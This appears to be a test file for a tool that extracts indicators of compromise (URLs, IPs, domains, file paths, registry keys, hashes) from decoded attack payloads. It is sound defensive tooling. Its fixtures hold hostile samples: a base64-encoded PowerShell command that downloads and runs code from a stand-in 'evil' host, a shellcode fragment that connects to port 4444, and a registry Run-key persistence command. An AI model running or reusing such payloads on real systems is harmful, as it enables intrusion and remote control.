import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { decodePayload } from "../payload/decode-payload.ts";
import { findIndicators } from "./find-indicators.ts";

/** Type and value of what is found, and that each range holds what the value says. */
function found(text: string): string[] {
  const decoded = decodePayload(text, { language: "command" });
  return findIndicators(text, { ...decoded, layers: [] }).map(
    (indicator) => `${indicator.type} ${indicator.value}${indicator.isPrivate ? " (private)" : ""}`,
  );
}

describe("what is an indicator", () => {
  test.each<[string, string[]]>([
    ["('http://192.0.2.10/a')", ["url http://192.0.2.10/a (private)", "ip 192.0.2.10 (private)"]],
    [
      "start HTTPS://Evil.Example:8443/Path?Q=1&r=2, now",
      ["url https://evil.example:8443/Path?Q=1&r=2", "domain evil.example"],
    ],
    ["x http://user:pw@evil.example/ y", ["url http://user:pw@evil.example/", "domain evil.example"]],
    ["curl http://8.8.8.8/a&&echo", ["url http://8.8.8.8/a", "ip 8.8.8.8"]],
    ["'http://[2606:4700::1111]:80/x'", ["url http://[2606:4700::1111]:80/x", "ip 2606:4700::1111"]],
    ["http://3232235777/", ["url http://3232235777/ (private)", "ip 192.168.1.1 (private)"]],
    ["http://0x08.010.8.8/", ["url http://0x08.010.8.8/", "ip 8.8.8.8"]],
    ["hxxps://evil[.]example/x", ["url https://evil.example/x", "domain evil.example"]],
    ["to 10.1.2.3:4444 now", ["ip 10.1.2.3 (private)", "port 4444"]],
    ["172.15.0.1 172.16.0.1 172.32.0.1", ["ip 172.15.0.1", "ip 172.16.0.1 (private)", "ip 172.32.0.1"]],
    ["100.63.0.1 100.64.0.1 169.254.1.1", ["ip 100.63.0.1", "ip 100.64.0.1 (private)", "ip 169.254.1.1 (private)"]],
    ["127.0.0.1 0.0.0.0", []],
    ["127.0.0.1:8080", ["ip 127.0.0.1 (private)", "port 8080"]],
    ["Version 5.1.14.33 and 1.2.3.4.5 and 300.1.1.1 and 01.2.3.4", []],
    [
      "ping 2001:4860:4860:0:0:0:0:8888 fe80::1 fd00::1 ::ffff:10.0.0.1",
      ["ip 2001:4860:4860::8888", "ip fe80::1 (private)", "ip fd00::1 (private)", "ip ::ffff:a00:1 (private)"],
    ],
    ["at 12:30:45 [Convert]::add 00:11:22:33:44:55", []],
    ["mail a.b@corp.example.com now", ["email a.b@corp.example.com", "domain corp.example.com"]],
    [
      "cmd.exe wbem.dll run.ps1 update.sh",
      ["file-name cmd.exe", "file-name wbem.dll", "file-name run.ps1", "file-name update.sh"],
    ],
    ["System.Net Net.WebClient WScript.Shell MSXML2.XMLHTTP ADODB.Stream TargetInstance.Name o.Run x.id", []],
    ["$client.me $obj.Name.to (a).net objItem.name(1) evil.example(", []],
    ["nslookup evil.example.com 'c2.name'", ["domain evil.example.com", "domain c2.name"]],
    ['"C:\\Program Files\\A B\\x.exe" /q', ["path C:\\Program Files\\A B\\x.exe"]],
    ["C:\\Program Files (x86)\\V\\x.exe -k", ["path C:\\Program Files (x86)\\V\\x.exe"]],
    ["%APPDATA%\\a.vbs and $env:TEMP\\b.ps1", ["path %APPDATA%\\a.vbs", "path $env:TEMP\\b.ps1"]],
    ["'C:\\\\Windows\\\\a.dll'", ["path C:\\Windows\\a.dll"]],
    ["net use \\\\10.0.0.5\\c$\\x.dll", ["path \\\\10.0.0.5\\c$\\x.dll", "ip 10.0.0.5 (private)"]],
    ["\\\\files.example.com\\share\\a", ["path \\\\files.example.com\\share\\a", "domain files.example.com"]],
    ["\\\\.\\root\\cimv2", []],
    ['"C:\\a b\\c.exe x y"', ["path C:\\a b\\c.exe"]],
    ["\\\\.\\pipe\\msagent_12", ["named-pipe \\\\.\\pipe\\msagent_12"]],
    [
      "reg add HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Run /v x",
      ["registry-key HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Run"],
    ],
    ['"HKEY_CURRENT_USER\\Software\\A B"', ["registry-key HKEY_CURRENT_USER\\Software\\A B"]],
    ["gp HKCU:\\Software\\X;", ["registry-key HKCU:\\Software\\X"]],
    [
      "'SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run'",
      ["registry-key SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run"],
    ],
    ["D41D8CD98F00B204E9800998ECF8427E", ["hash d41d8cd98f00b204e9800998ecf8427e"]],
    ["12345678901234567890123456789012 abcdefabcdefabcdefabcdefabcdefab d41d8cd98f00b204e9800998ecf8427", []],
    [
      '"User-Agent", "Mozilla/5.0 (Windows NT 10.0) Chrome/120.0.0.0"',
      ["user-agent Mozilla/5.0 (Windows NT 10.0) Chrome/120.0.0.0"],
    ],
    ["{4e7fbe0a-93c7-4d2a-8c9c-1d0d5a0b3a12}", ["clsid {4E7FBE0A-93C7-4D2A-8C9C-1D0D5A0B3A12}"]],
  ])("%s", (text, expected) => expect(found(text)).toEqual(expected));
});

test("ranges are exact, in the payload and in each layer", () => {
  const inner = "IEX (New-Object Net.WebClient).DownloadString('hxxp://evil[.]example/a')";
  const payload = `powershell -e ${btoa([...inner].map((unit) => `${unit}\0`).join(""))} C:\\a.exe`;
  const decoded = decodePayload(payload);
  const texts = [payload, ...decoded.layers.map((layer) => layer.text)];
  const cut = findIndicators(payload, decoded).map(({ type, layer, start, end }) => [
    type,
    layer,
    texts[layer + 1]?.slice(start, end),
  ]);
  expect(cut).toEqual([
    ["path", -1, "C:\\a.exe"],
    ["url", 0, "hxxp://evil[.]example/a"],
    ["domain", 0, "evil[.]example"],
  ]);
});

test("shellcode that connects gives its address and port", () => {
  const payload = "$b = 0xfc,0xe8,0x8f,0x00,0x00,0x00,0x68,0x0a,0x0a,0x4b,0x01,0x68,0x02,0x00,0x11,0x5c";
  expect(findIndicators(payload, decodePayload(payload))).toEqual([
    { type: "ip", value: "10.10.75.1", start: 7, end: 11, layer: 0, isPrivate: true },
    { type: "port", value: "4444", start: 14, end: 16, layer: 0 },
  ]);
});

test("any text gives ranges inside it, in order", () => {
  const piece = fc.constantFrom(
    "http://",
    "a.com",
    "\\\\",
    "C:\\",
    "::",
    "1.2.3.4",
    "@",
    "[.]",
    "HKLM\\",
    "user-agent:",
    " ",
    "'",
    "%A%\\",
    "x",
  );
  fc.assert(
    fc.property(fc.array(fc.oneof(piece, fc.string({ maxLength: 3 })), { maxLength: 20 }), (pieces) => {
      const text = pieces.join("");
      let last = 0;
      for (const { start, end } of findIndicators(text, { layers: [], cut: undefined })) {
        expect(start).toBeGreaterThanOrEqual(last);
        expect(end).toBeGreaterThan(start);
        expect(end).toBeLessThanOrEqual(text.length);
        last = start;
      }
    }),
    { numRuns: 300 },
  );
});

test("a flood is cut at the limit", () => {
  const text = "8.8.8.8 evil.com ".repeat(4000);
  expect(findIndicators(text, { layers: [], cut: undefined })).toHaveLength(2000);
});
